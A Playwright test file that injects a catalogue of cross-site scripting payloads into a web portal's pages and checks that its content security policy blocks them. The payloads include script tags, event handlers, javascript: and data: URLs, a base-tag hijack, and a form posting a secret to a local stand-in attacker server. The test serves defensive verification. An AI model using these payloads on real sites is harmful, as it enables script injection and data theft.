import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { enterAs, roles } from './people';
import { expect, test } from './test';

// The content security policy does in a browser what it says: a script that an attacker got into a page does not run.
// That it stands in nobody else's way, every browser test shows (the guard); that no page holds what it refuses, is read in
// bypass.spec.ts, which knows every page.

test.describe.configure({ mode: 'parallel' });
// The other site is on this machine, too, and must be kept out by the policy, not for where it is.
test.use({ permissions: ['local-network-access'] });

/** Another site: it serves what it is asked for, and knows what that was. */
async function startAttacker(): Promise<{ url: string; asked: string[]; server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', request.url?.endsWith('.css') ? 'text/css' : 'text/javascript');
    response.end(request.url?.endsWith('.css') ? 'body { color: red }' : 'ran("a script of another site")');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
}

/**
 * What somebody writes who may write HTML into a page, and knows the policy of an earlier answer. A
 * `modulepreload` is not among it: 'strict-dynamic' lets it fetch, and it runs nothing.
 */
const attacks = (evil: string, oldNonce: string) => `
<base href="${evil}/">
<script>ran("inline")</script>
<script nonce="">ran("an empty nonce")</script>
<script nonce="${oldNonce}">ran("the nonce of another answer")</script>
<script type="module">ran("a module")</script>
<script src="${evil}/x.js"></script>
<script src="data:text/javascript,ran('data:')"></script>
<script src="//${evil.slice('http://'.length)}/y.js" integrity=""></script>
<img src="data:," alt="" onerror="ran('onerror')">
<svg onload="ran('onload of a picture')"><script>ran("in a picture")</script></svg>
<details open ontoggle="ran('ontoggle')"><summary>x</summary></details>
<body onpageshow="ran('onpageshow')">
<iframe title="x" srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>
<iframe title="x" src="javascript:parent.ran('javascript: in a frame')"></iframe>
<iframe title="x" src="data:text/html,<script>parent.ran('data: in a frame')</script>"></iframe>
<iframe title="x" src="${evil}/frame"></iframe>
<object data="${evil}/object"></object>
<embed src="${evil}/embed">
<link rel="stylesheet" href="${evil}/x.css">
<link rel="preload" as="script" href="${evil}/preload.js">
<style>#evil-style { position: fixed } body { background: url(${evil}/background) }</style>
<p id="evil-style" style="background: url(${evil}/style)">x</p>
<img src="${evil}/picture" alt="">
<video src="${evil}/video"></video>
<a id="evil-link" href="javascript:ran('javascript: link')">x</a>
<button id="evil-button" onclick="ran('onclick')">x</button>
<form id="evil-form" action="${evil}/form" method="post"><input name="secret" value="s"><button id="evil-send">x</button></form>
<form id="evil-script" action="javascript:ran('javascript: form')"><button id="evil-run">x</button></form>`;

/** What the portal's own scripts would be able to do: shows that the attacks arrive, and what is refused even to them. */
const ownScript = (nonce: string) => `<script nonce="${nonce}">
window.hits = [];
window.ran = (how) => { window.hits.push(how); };
window.refused = [];
document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
for (const [name, compile] of [
  ['eval', () => (0, eval)('ran("eval")')],
  ['Function', () => new Function('ran("Function")')()],
]) try { compile(); } catch (error) { window.refused.push(name + ': ' + error.name); }
setTimeout('ran("setTimeout of a text")');
window.isOwn = true;
</script>`;

type Seen = { hits: string[]; refused: string[]; isOwn: boolean; base: string };

/** Opens a page into which somebody has written, tries what a person would have to do for them, and tells what came of it. */
async function openAttacked(page: Page, address: string, evil: string): Promise<Seen> {
  const earlier = await page.request.get(address, { headers: { accept: 'text/html' } });
  const nonceOf = (policy = '') => /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
  const oldNonce = nonceOf(earlier.headers()['content-security-policy']);
  expect(oldNonce, address).not.toBe('');
  const isTheDocument = (url: URL) => url.pathname === new URL(address, url).pathname;
  await page.route(isTheDocument, async (route) => {
    if (route.request().resourceType() !== 'document') return route.continue();
    const response = await route.fetch();
    const nonce = nonceOf(response.headers()['content-security-policy']);
    const body = (await response.text())
      .replace(/<head>/, `<head>${ownScript(nonce)}`)
      .replace('</body>', `${attacks(evil, oldNonce)}</body>`);
    return route.fulfill({ response, body });
  });
  await page.goto(address);
  await expect(page.locator('#evil-form'), `${address}: the attack arrives`).toBeAttached();
  for (const id of ['evil-link', 'evil-button', 'evil-run', 'evil-send'])
    await page.evaluate((name) => document.getElementById(name)?.click(), id);
  // Whatever was begun has had its turn.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));
  const seen = await page.evaluate(() => {
    const { hits, refused, isOwn } = window as unknown as Omit<Seen, 'base'>;
    return { hits, refused, isOwn, base: document.baseURI };
  });
  await page.unroute(isTheDocument);
  return seen;
}

const pages: { kind: string; addresses: string[]; as?: string }[] = [
  { kind: 'public pages', addresses: ['/', '/help', '/developers'] },
  { kind: 'account forms', addresses: ['/login', '/register', '/reset/link', '/confirm/link'] },
  {
    kind: 'pages of the portal',
    addresses: ['/dashboard', '/security', '/admin/users', '/reauthenticate'],
    as: roles['County Admin'],
  },
  { kind: 'pages that say no', addresses: ['/nothing', '/admin/users', '/status/200'], as: roles.Citizen },
];

for (const { kind, addresses, as } of pages)
  test(`what an attacker wrote into it does not run: ${kind}`, async ({ page, guard, portal }) => {
    // Everything here is refused on purpose, and a page that holds more than was rendered is drawn anew.
    guard.allow(/Content Security Policy|policy violated|status of 40[34]|Minified React error|ERR_/);
    const { url: evil, asked, server } = await startAttacker();
    try {
      if (as) await enterAs(page, as);
      for (const address of addresses) {
        const { hits, refused, isOwn, base } = await openAttacked(page, address, evil);
        expect(isOwn, `${address}: a script with the nonce runs`).toBe(true);
        expect.soft(hits, `${address}: nothing of the attacker's ran`).toEqual([]);
        expect
          .soft(refused, address)
          .toEqual(expect.arrayContaining(['eval: EvalError', 'Function: EvalError']));
        for (const directive of [
          'script-src-elem',
          'script-src-attr',
          'style-src-elem',
          'style-src-attr',
          'img-src',
          'frame-src',
          'object-src',
          'media-src',
          'base-uri',
          'form-action',
        ])
          expect.soft(refused, `${address}: ${directive}`).toContain(directive);
        expect.soft(base, `${address}: links lead where they did`).toMatch(new RegExp(`^${portal.url}/`));
        expect.soft(page.url(), `${address}: nobody is led away`).toMatch(new RegExp(`^${portal.url}/`));
      }
      expect(asked, 'nothing reaches another site').toEqual([]);
    } finally {
      server.close();
      server.closeAllConnections();
    }
  });
